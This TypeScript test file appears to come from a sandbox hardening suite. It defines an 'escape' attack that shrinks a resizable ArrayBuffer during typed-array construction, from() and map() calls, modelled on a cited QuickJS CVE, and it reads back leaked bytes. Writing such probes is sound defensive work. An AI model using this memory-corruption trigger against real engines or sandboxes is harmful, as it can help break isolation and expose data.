import { attack } from '../attack.ts';

/** A typed array is made of another one whose buffer shrinks while its species or length is asked for (QuickJS CVE-2026-1145 is of this kind). */
export const escape = attack({
	grants: [],
	source: `
		const buffer = new ArrayBuffer(65536, { maxByteLength: 65536 });
		const source = new Float64Array(buffer);
		const told = [];
		for (const Kind of [Uint8Array, Float32Array, BigUint64Array, Uint16Array]) {
			try { class Odd extends Kind { constructor(...args) { buffer.resize?.(8); super(...args); } } told.push(new Odd(source).length); } catch {}
			try { buffer.resize?.(65536); const made = Kind.from({ get length() { buffer.resize?.(0); return 8192; }, 0: 1 }); told.push(made.length); } catch {}
			try { buffer.resize?.(65536); told.push(source.map((value, index) => { if (index === 1) buffer.resize?.(16); return value; }).length); } catch {}
		}
		buffer.resize?.(65536);
		return [told, Array.from(new Uint8Array(buffer)).filter(Boolean).map((code) => String.fromCharCode(code)).join('')];
	`,
});
